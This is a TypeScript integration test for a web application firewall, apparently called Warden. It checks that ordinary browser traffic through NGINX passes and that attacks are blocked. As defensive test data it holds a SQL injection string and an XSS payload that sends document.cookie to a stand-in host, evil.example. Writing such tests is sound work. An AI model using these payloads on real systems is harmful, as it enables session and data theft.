/**
 * A real browser through Warden: headless Chromium (Debian's `chromium`, driven by playwright-core)
 * uses a small shop page served by a real NGINX behind Warden with its defaults (bundled rules, shipped
 * model, reputation). Every request is the browser's own — its headers, `Sec-Fetch-*`, cookies the page
 * set, the form encodings it picks, a multipart upload of a real PNG it rendered, a JSON fetch, a
 * beacon — with what a user types: a review in three scripts with a link and emoji, an Irish address
 * with an apostrophe, a password full of punctuation, search-engine syntax. None may be blocked. Then
 * the same page with an injection typed in is blocked, so the run can tell the two apart. A rich-text
 * editor page sends its innerHTML (markup, links, a pasted image as a data: URL), then a smuggled script.
 * The browser reaches 127.0.0.1 only: every other host name resolves to nothing.
 */
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page, Response } from 'playwright-core';
import { CHROMIUM, launchLoopbackChromium, REVIEW, SHOP_SITE } from '../helpers/shop-site.js';
import { nginxBinary, startNginx, type NginxUpstream } from '../helpers/nginx.js';
import { startTestWarden } from '../helpers/warden.js';

let nginx: NginxUpstream;
let warden: Awaited<ReturnType<typeof startTestWarden>>;
let browser: Browser;

beforeAll(async () => {
  if (nginxBinary() === null || CHROMIUM === null) return;
  nginx = await startNginx({ extraHtml: SHOP_SITE });
  warden = await startTestWarden(nginx.origin, { logging: { logAllowed: true } });
  browser = await launchLoopbackChromium();
}, 90_000);

afterAll(async () => {
  await browser?.close();
  await warden?.close();
  await nginx?.stop();
});

/** Every response the page got, by URL path, as the browser saw it. */
function recordResponses(page: Page): Response[] {
  const seen: Response[] = [];
  page.on('response', (r) => seen.push(r));
  return seen;
}

/** The decision-log lines of verdicts so far. */
function verdicts(): Array<{ action: string; method: string; path: string; reasons?: string[] }> {
  return readFileSync(warden.logFile, 'utf8')
    .split('\n')
    .filter((l) => l.includes('"event":"verdict"'))
    .map((l) => JSON.parse(l) as { action: string; reasons?: string[]; request: { method: string; path: string } })
    .map((d) => ({ action: d.action, reasons: d.reasons, method: d.request.method, path: d.request.path }));
}

/** NGINX's access-log line for a path, once it has arrived there (bounded wait). */
async function reachedNginx(path: string): Promise<Record<string, string>> {
  const line = await nginx.logged((l) => l.uri.startsWith(path));
  expect(line, `${path} never reached NGINX`).toBeDefined();
  return line!;
}

describe.skipIf(nginxBinary() === null || CHROMIUM === null)('a real browser through Warden (headless Chromium, defaults)', () => {
  it('passes everything a user does on the page — assets, cookies, JSON, beacon, forms, a multipart upload — and blocks the injection typed into it', async () => {
    const context = await browser.newContext({ locale: 'en-IE' });
    const page = await context.newPage();
    const responses = recordResponses(page);

    const landing = await page.goto(`${warden.origin}/static/shop.html?utm_source=newsletter&utm_medium=email&utm_campaign=winter-sale_2026&gclid=Cj0KCQiA4L2BhCYARIsAK-7mQw3x9_Zb`);
    expect(landing?.status()).toBe(200);
    for (const path of ['/static/shop.css', '/static/shop.js', '/static/logo.svg', '/api/products', '/api/cart', '/collect']) await reachedNginx(path);
    expect((await reachedNginx('/api/cart')).cookie).toMatch(/theme=dark/);

    await page.fill('#review', REVIEW);
    const review = page.waitForResponse((r) => r.url().endsWith('/api/reviews'));
    await page.click('#send-review');
    expect((await review).status()).toBe(200);
    expect(JSON.parse((await reachedNginx('/api/reviews')).body) as { text: string }).toMatchObject({ text: REVIEW });

    // A PNG the browser itself rendered, uploaded as a user picks a file.
    const png = await page.screenshot();
    await page.setInputFiles('#avatar', { name: 'me at the top.png', mimeType: 'image/png', buffer: png });
    await page.fill('#caption', "Me on the Matterhorn (4,478 m) — summer '25, 06:40 a.m.");
    const [upload] = await Promise.all([page.waitForNavigation(), page.click('#send-avatar')]);
    expect(upload?.status()).toBe(200);

    await page.goto(`${warden.origin}/static/shop.html`);
    await page.fill('#email', "siobhan.o'brien+shop@example.ie");
    await page.fill('#password', 'Tr0ub4dor&3 "x" <y> 100%!');
    const [login] = await Promise.all([page.waitForNavigation(), page.click('#signin')]);
    expect(login?.status()).toBe(200);
    expect((await reachedNginx('/account/login')).body).toContain('email=siobhan.o%27brien%2Bshop%40example.ie');

    await page.goto(`${warden.origin}/static/shop.html`);
    await page.fill('#q', '"running shoes" -trail size:42 brand:acme OR brand:zephyr price:<100');
    const [search] = await Promise.all([page.waitForNavigation(), page.click('#go')]);
    expect(search?.status()).toBe(200);

    const statuses = responses.map((r) => `${r.status()} ${new URL(r.url()).pathname}`);
    expect(responses.length).toBeGreaterThanOrEqual(14);
    // 200s, and 304s for the assets the browser revalidates (If-Modified-Since, If-None-Match): nothing refused.
    expect(responses.filter((r) => r.status() >= 400).length, statuses.join('\n')).toBe(0);
    expect(statuses.filter((s) => s.startsWith('304 ')).length).toBeGreaterThan(0);
    const blocked = verdicts().filter((v) => v.action !== 'allow');
    expect(blocked, JSON.stringify(blocked)).toEqual([]);

    // The same page, with what an attacker types: blocked, with an incident id in the answer.
    await page.goto(`${warden.origin}/static/shop.html`);
    await page.fill('#q', "1' UNION SELECT username, password FROM users--");
    const [attack] = await Promise.all([page.waitForNavigation(), page.click('#go')]);
    expect(attack?.status()).toBe(403);
    expect(await attack!.text()).toMatch(/Incident ID: <code>[0-9a-z]{16,}<\/code>/i);
    await context.close();
  }, 120_000);

  it('passes a rich-text post as the browser editor writes it — markup, links, a list, a pasted image as a data: URL — and blocks a script smuggled into it', async () => {
    const context = await browser.newContext({ locale: 'en-GB' });
    const page = await context.newPage();
    await page.goto(`${warden.origin}/static/editor.html`);
    const png = (await page.screenshot({ clip: { x: 0, y: 0, width: 40, height: 30 } })).toString('base64');
    await page.fill('#title', 'Release notes: v2.4 — "faster search" & fewer clicks');
    // What an editor holds after a user typed, formatted, linked and pasted a picture.
    const html =
      '<h2>What\'s new</h2><p>Search is <strong>3× faster</strong> on large catalogues; see <a href="https://docs.example.com/search?v=2.4#ranking" target="_blank" rel="noopener">the ranking notes</a>.</p>' +
      '<ul><li>Filters keep their state when you go back</li><li>Prices show in € and £</li><li><code>Ctrl</code> + <code>K</code> opens search</li></ul>' +
      '<blockquote>Thanks to everyone who filed issues — 142 closed!</blockquote>' +
      `<p><img src="data:image/png;base64,${png}" alt="screenshot of the new filter panel" width="40" height="30"></p><p><em>— the team</em></p>`;
    // What the editor holds after a user typed, formatted, linked and pasted a picture; the page sends its innerHTML.
    const setEditor = (value: string): Promise<void> => page.locator('#editor').evaluate((el, v) => void ((el as { innerHTML: string }).innerHTML = v), value);
    await setEditor(html);
    const publish = page.waitForResponse((r) => r.url().endsWith('/api/posts'));
    await page.click('#publish');
    expect((await publish).status()).toBe(200);
    expect((await reachedNginx('/api/posts')).body).toContain('data:image/png;base64,');

    await setEditor('<p>Nice post</p><img src=x onerror="fetch(`//evil.example/c?`+document.cookie)">');
    const attack = page.waitForResponse((r) => r.url().endsWith('/api/posts'));
    await page.click('#publish');
    expect((await attack).status()).toBe(403);
    await context.close();
  }, 120_000);
});
